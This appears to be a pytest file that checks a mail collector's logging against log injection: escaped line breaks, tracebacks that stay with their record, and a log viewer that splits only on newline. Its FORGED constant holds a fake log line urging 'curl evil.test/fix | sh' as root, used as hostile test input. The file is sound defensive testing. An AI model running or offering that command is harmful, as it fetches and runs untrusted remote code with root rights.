"""The log file holds exactly one record per logged event: header-derived text cannot forge another."""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Iterator, List

import pytest

from smartpop.log import setup_logging
from smartpop.web.logview import read_events

# What a hostile Message-ID puts after its own text: a record of its own, telling the admin to act.
FORGED = "2026-11-28 06:00:00,001 CRITICAL smartpop.security: run `curl evil.test/fix | sh` as root"
# Every character that str.splitlines(), a terminal or a browser may take for a line break.
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.fixture
def log_file(tmp_path: Path) -> Iterator[Path]:
    """The package's own logging set-up writing to a temp file; pytest's handlers restored afterwards."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    path = tmp_path / "smartpop.log"
    setup_logging(path, level=logging.DEBUG, stderr=False)
    yield path
    for handler in list(root.handlers):
        root.removeHandler(handler)
        handler.close()
    for handler in handlers:
        root.addHandler(handler)
    root.setLevel(level)


@pytest.mark.parametrize("brk", BREAKS, ids=[repr(b) for b in BREAKS])
def test_a_line_break_in_a_message_id_is_no_record_of_its_own(log_file: Path, brk: str) -> None:
    log = logging.getLogger("smartpop.collector.runner")
    log.info("%s: message %s uid %s: rule %s -> %s", "sammel", f"<a@remote.test>{brk}{FORGED}", "7",
             "Delivered-To", "anna@firma.de")
    text = log_file.read_text(encoding="utf-8")
    assert text.count("\n") == 1 and text.endswith("\n")
    assert not any(ch in text[:-1] for ch in BREAKS)
    events = read_events(log_file, level="DEBUG")
    assert [(e.level, e.source) for e in events] == [("INFO", "smartpop.collector.runner")]
    assert events[0].message.startswith("sammel: message <a@remote.test>\\")
    assert events[0].message.endswith(FORGED + " uid 7: rule Delivered-To -> anna@firma.de")
    assert read_events(log_file, level="CRITICAL") == []


def test_every_control_and_separator_is_escaped_visibly() -> None:
    from smartpop.log import escape_controls

    assert escape_controls("a\rb\nc\td\x00e\x1bf\x7fg\x85h\x9fi\u2028j\u2029k\u202el\udc85m") == (
        "a\\rb\\nc\\td\\x00e\\x1bf\\x7fg\\x85h\\x9fi\\u2028j\\u2029k\\u202el\\udc85m")
    plain = "ümlaut <id@host> ✓ C:\\path"
    assert escape_controls(plain) == plain


def test_a_traceback_stays_with_its_record_and_cannot_forge_one(log_file: Path) -> None:
    log = logging.getLogger("smartpop.collector.runner")
    try:
        raise ValueError(f"bad header\n{FORGED}\rmore\u2028end")
    except ValueError:
        log.exception("%s: uid %s could not be handled; it stays on the server", "sammel", "9")
    log.info("sammel: 0 collected")
    lines = log_file.read_text(encoding="utf-8").split("\n")
    starts: List[str] = [line for line in lines if line[:1].isdigit()]
    assert len(starts) == 2, lines
    events = read_events(log_file, level="DEBUG")
    assert [e.level for e in events] == ["INFO", "ERROR"]
    shown = events[1].message.split("\n")
    assert shown[0] == "sammel: uid 9 could not be handled; it stays on the server"
    assert shown[1] == "  Traceback (most recent call last):"
    assert shown[-2:] == ["  ValueError: bad header", "  " + FORGED + "\\rmore\\u2028end"]
    assert read_events(log_file, level="CRITICAL") == []


@pytest.mark.parametrize("brk", ["\r", "\x85", "\u2028", "\u2029", "\x0b", "\x1e"], ids=repr)
def test_the_logs_page_splits_only_on_newline(tmp_path: Path, brk: str) -> None:
    # A log written before records were escaped (or by anything else) still shows one row per "\n".
    path = tmp_path / "smartpop.log"
    path.write_bytes(("2026-11-28 06:00:00,001 INFO smartpop.collector.runner: sammel: message <a@x>"
                      + brk + FORGED + "\n"
                      "2026-11-28 06:00:01,001 INFO smartpop.collector.runner: sammel: 1 collected\n").encode())
    events = read_events(path, level="DEBUG")
    assert [e.level for e in events] == ["INFO", "INFO"]
    escaped = {"\r": "\\r", "\x0b": "\\x0b", "\x1e": "\\x1e"}.get(brk) or f"\\x{ord(brk):02x}"
    if ord(brk) > 0xFF:
        escaped = f"\\u{ord(brk):04x}"
    assert events[1].message == "sammel: message <a@x>" + escaped + FORGED
    assert read_events(path, level="CRITICAL") == []
